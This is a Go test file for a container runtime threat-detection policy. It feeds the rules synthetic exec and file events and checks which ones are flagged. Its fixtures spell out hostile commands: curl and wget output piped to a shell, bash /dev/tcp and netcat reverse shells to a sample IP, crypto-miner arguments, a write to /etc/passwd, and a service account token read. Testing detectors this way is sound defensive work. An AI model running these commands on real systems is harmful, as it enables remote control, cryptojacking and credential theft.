@@ -0,0 +1,130 @@
+package eventpolicy
+
+import (
+	eventtype "runtime-behavior-profiler/pkg/event/type"
+	"strings"
+	"testing"
+)
+
+func execEvent(parent string, binary string, arguments string) *testEvent {
+	return &testEvent{
+		namespace: "default",
+		pod:       "web-1",
+		image:     "docker.io/library/nginx:1.27",
+		parent:    parent,
+		process:   &eventtype.Process{Binary: binary, Arguments: arguments},
+	}
+}
+
+func fileEvent(function string, path string, access string) *testKernelEvent {
+	return &testKernelEvent{
+		testEvent: *execEvent("/docker-entrypoint.sh", "/usr/sbin/nginx", "-g daemon off;"),
+		behavior: &eventtype.KernelBehavior{
+			Kind:     eventtype.KernelBehaviorFile,
+			Function: function,
+			File:     &eventtype.FileBehavior{Path: path, Permission: "-rw-r--r--", Access: access},
+		},
+	}
+}
+
+func TestDetectionRules(t *testing.T) {
+	policy, err := NewPolicy(DetectionRules())
+	if err != nil {
+		t.Fatalf("failed to compile detection rules: %v", err)
+	}
+
+	tests := []struct {
+		name  string
+		event eventtype.IEvent
+		want  string
+	}{
+		{"shell spawned by nginx", execEvent("/usr/sbin/nginx", "/bin/sh", "-c id"), "shell-spawned-by-web-server"},
+		{"shell spawned by java", execEvent("/opt/java/openjdk/bin/java", "/bin/bash", ""), "shell-spawned-by-web-server"},
+		{"shell spawned by entrypoint", execEvent("/docker-entrypoint.sh", "/bin/sh", "-c echo ready"), ""},
+		{"apt-get", execEvent("/bin/sh", "/usr/bin/apt-get", "install -y netcat"), "package-manager-at-runtime"},
+		{"curl piped to sh", execEvent("/bin/bash", "/bin/sh", "-c curl -fsSL https://203.0.113.7/x.sh | sh"), "download-piped-to-shell"},
+		{"wget piped to sudo bash", execEvent("/bin/bash", "/bin/bash", "-c wget -qO- http://example.com/i | sudo bash -s"), "download-piped-to-shell"},
+		{"curl to file", execEvent("/bin/bash", "/bin/sh", "-c curl -o /tmp/index.html https://example.com"), ""},
+		{"dev tcp", execEvent("/usr/bin/python3", "/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"), "reverse-shell-arguments"},
+		{"netcat exec", execEvent("/bin/sh", "/usr/bin/nc", "203.0.113.7 4444 -e /bin/sh"), "reverse-shell-arguments"},
+		{"python pty", execEvent("/bin/sh", "/usr/bin/python3", `-c import pty; pty.spawn("/bin/bash")`), "reverse-shell-arguments"},
+		{"netcat listen", execEvent("/bin/sh", "/usr/bin/nc", "-z db 5432"), ""},
+		{"xmrig", execEvent("/bin/sh", "/tmp/xmrig", "--threads 4"), "crypto-miner"},
+		{"stratum pool", execEvent("/bin/sh", "/tmp/kworker", "-o stratum+tcp://pool.example.com:3333 -u wallet"), "crypto-miner"},
+		{"write below etc", fileEvent("security_file_permission", "/etc/passwd", "write"), "write-below-etc"},
+		{"truncate below etc", fileEvent("security_path_truncate", "/etc/nginx/nginx.conf", ""), "write-below-etc"},
+		{"read below etc", fileEvent("security_file_permission", "/etc/passwd", "read"), ""},
+		{"write below usr bin", fileEvent("security_file_permission", "/usr/bin/ls", "read,write"), "write-below-binary-directory"},
+		{"write below bin", fileEvent("security_file_permission", "/bin/sh", "write"), "write-below-binary-directory"},
+		{"write below usr lib", fileEvent("security_file_permission", "/usr/lib/os-release", "write"), ""},
+		{"service account token", fileEvent("security_file_open", "/var/run/secrets/kubernetes.io/serviceaccount/..2024_12_02_12_00_00.123/token", ""), "service-account-token-read"},
+		{"service account namespace", fileEvent("security_file_open", "/var/run/secrets/kubernetes.io/serviceaccount/namespace", ""), ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			deviations, err := policy.EvaluateEvent(tt.event)
+			if err != nil {
+				t.Fatalf("EvaluateEvent() error: %v", err)
+			}
+
+			var got []string
+			for _, deviation := range deviations {
+				got = append(got, deviation.Value)
+				if deviation.Type != eventtype.DeviationSuspiciousBehavior {
+					t.Errorf("deviation type = %s; want %s", deviation.Type, eventtype.DeviationSuspiciousBehavior)
+				}
+				// The techniques of the rule pack are known to the bundled mapping.
+				eventtype.DefaultAttackMapping().TagDeviation(deviation)
+				if len(deviation.Techniques) == 0 || len(deviation.Tactics) == 0 {
+					t.Errorf("deviation %s has no technique or tactic", deviation.Value)
+				}
+			}
+			if strings.Join(got, ",") != tt.want {
+				t.Errorf("detections = %v; want %q", got, tt.want)
+			}
+		})
+	}
+}
+
+func TestDetectionRulesIgnoreProfiles(t *testing.T) {
+	policy, err := NewPolicy(DetectionRules())
+	if err != nil {
+		t.Fatalf("failed to compile detection rules: %v", err)
+	}
+
+	cluster := eventtype.NewCluster("prod")
+	if _, err := cluster.SinkEvent(execEvent("/usr/sbin/nginx", "/bin/sh", "-c id")); err != nil {
+		t.Fatalf("failed to sink event: %v", err)
+	}
+
+	deviations, err := policy.EvaluateCluster(cluster)
+	if err != nil {
+		t.Fatalf("EvaluateCluster() error: %v", err)
+	}
+	if len(deviations) != 0 {
+		t.Errorf("profile deviations = %+v; want none", deviations)
+	}
+}
+
+func TestWithDetectionRules(t *testing.T) {
+	rules := WithDetectionRules([]*Rule{
+		{Name: "service-account-token-read", Condition: "false"},
+		{Name: "no-shell", Condition: `process.name == "sh"`},
+	})
+
+	if len(rules) != len(detectionRules)+1 {
+		t.Fatalf("rules = %d; want %d", len(rules), len(detectionRules)+1)
+	}
+	for _, rule := range rules {
+		if rule.Name == "service-account-token-read" && rule.Condition != "false" {
+			t.Errorf("service-account-token-read was not replaced")
+		}
+	}
+	if rules[len(rules)-1].Name != "no-shell" {
+		t.Errorf("last rule = %s; want no-shell", rules[len(rules)-1].Name)
+	}
+	if _, err := NewPolicy(rules); err != nil {
+		t.Errorf("NewPolicy() error: %v", err)
+	}
+}